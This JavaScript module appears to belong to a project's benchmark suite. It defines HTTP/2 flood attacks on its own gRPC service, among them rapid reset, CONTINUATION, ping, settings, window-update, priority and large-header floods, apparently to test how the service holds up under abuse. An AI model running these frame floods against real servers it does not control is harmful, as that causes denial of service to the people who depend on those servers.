// Attacks of bench/neighbours.mjs with HTTP/2 frames on the gRPC port.
import { setTimeout as sleep } from 'node:timers/promises';
import { END_HEADERS, END_STREAM, frame, hpack, sendFrames, setting, TYPE, uint32 } from './http2-frames.mjs';

const GET_TASK = '/lf.a2a.v1.A2AService/GetTask';

/** Headers of a call. */
const callHeaders = (a) => ({
  ':method': 'POST',
  ':scheme': 'http',
  ':path': GET_TASK,
  ':authority': 'x',
  'content-type': 'application/grpc',
  te: 'trailers',
  'baton-agent': 'echo',
  ...a.bearer,
});
const idOf = (i) => 1 + 2 * i;
/** A gRPC message, not compressed. */
const message = (bytes) => Buffer.concat([Buffer.from([0]), uint32(bytes.length), bytes]);

/** Frames of one call that asks for the large task. */
const call = (a, head, stream) =>
  Buffer.concat([
    frame(TYPE.headers, head, { flags: END_HEADERS, stream }),
    frame(TYPE.data, message(a.largeId()), { flags: END_STREAM, stream }),
  ]);

/**
 * An attack that sends frames over connections without end.
 * @param framesOf called once, with the attacker: headers take long to write. It makes what makes the next frames of a connection: `next(i)`
 * @param options `prepare` comes before that, the others are those of `sendFrames`
 */
const flood = (framesOf, { prepare, ...options } = {}) => ({
  isMany: true,
  prepare: async (a) => {
    await prepare?.(a);
    a.nextFrames = framesOf(a);
  },
  act: async (a) => {
    const { outcome, sent } = await sendFrames(a.grpc, a.nextFrames, a.signal, options);
    a.sent += sent;
    if (outcome === 'closed') await sleep(20);
    return a.note(outcome);
  },
});

/** The same frames a hundred times. */
const hundred = (one) => Buffer.concat(Array.from({ length: 100 }, () => one));
const PINGS = hundred(frame(TYPE.ping, Buffer.alloc(8)));
const prepare = (a) => a.makeLarge();

export const HTTP2_ATTACKS = {
  'HTTP/2: rapid reset': flood(
    (a) => {
      const head = hpack(callHeaders(a));
      return (i) =>
        Buffer.concat([call(a, head, idOf(i)), frame(TYPE.reset, uint32(8), { stream: idOf(i) })]);
    },
    { prepare },
  ),
  'HTTP/2: pings': flood(() => () => PINGS),
  'HTTP/2: unread pings': flood(() => () => PINGS, { isUnread: true }),
  'HTTP/2: settings': flood(() => {
    const many = hundred(frame(TYPE.settings, setting(4, 65_535)));
    return () => many;
  }),
  'HTTP/2: continuation': flood((a) => {
    const first = frame(TYPE.headers, hpack(callHeaders(a)), { stream: 1 });
    const part = frame(TYPE.continuation, hpack({ 'x-header': 'x'.repeat(8_000) }), { stream: 1 });
    return (i) => (i === 0 ? first : part);
  }),
  'HTTP/2: empty data': flood((a) => {
    const first = frame(TYPE.headers, hpack(callHeaders(a)), { flags: END_HEADERS, stream: 1 });
    const empty = hundred(frame(TYPE.data, undefined, { stream: 1 }));
    return (i) => (i === 0 ? first : empty);
  }),
  'HTTP/2: windows of a byte': flood(
    (a) => {
      const head = hpack(callHeaders(a));
      const more = Buffer.concat(
        Array.from({ length: 20 }, (_, n) => frame(TYPE.window, uint32(1), { stream: idOf(n) })),
      );
      return (i) => (i < 20 ? call(a, head, idOf(i)) : more);
    },
    { prepare, windowBytes: 1 },
  ),
  'HTTP/2: window updates': flood(() => {
    const many = hundred(frame(TYPE.window, uint32(1)));
    return () => many;
  }),
  'HTTP/2: window updates in a call': flood((a) => {
    const first = frame(TYPE.headers, hpack(callHeaders(a)), { flags: END_HEADERS, stream: 1 });
    const many = hundred(frame(TYPE.window, uint32(1)));
    return (i) => (i === 0 ? first : many);
  }),
  'HTTP/2: priorities': flood(() => {
    const many = hundred(frame(TYPE.priority, Buffer.concat([uint32(0), Buffer.from([16])]), { stream: 1 }));
    return () => many;
  }),
  'HTTP/2: unknown frames': flood(() => {
    const many = hundred(frame(TYPE.unknown));
    return () => many;
  }),
  'HTTP/2: idle streams': flood(
    (a) => {
      const head = hpack(callHeaders(a));
      return (i) => frame(TYPE.headers, head, { flags: END_HEADERS, stream: idOf(i) });
    },
    { max: 200 },
  ),
  'HTTP/2: large headers': flood((a) => {
    const many = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`x-${i}`, 'y'.repeat(5)]));
    const head = hpack({ ...callHeaders(a), ...many });
    return (i) => frame(TYPE.headers, head, { flags: END_HEADERS | END_STREAM, stream: idOf(i) });
  }),
};
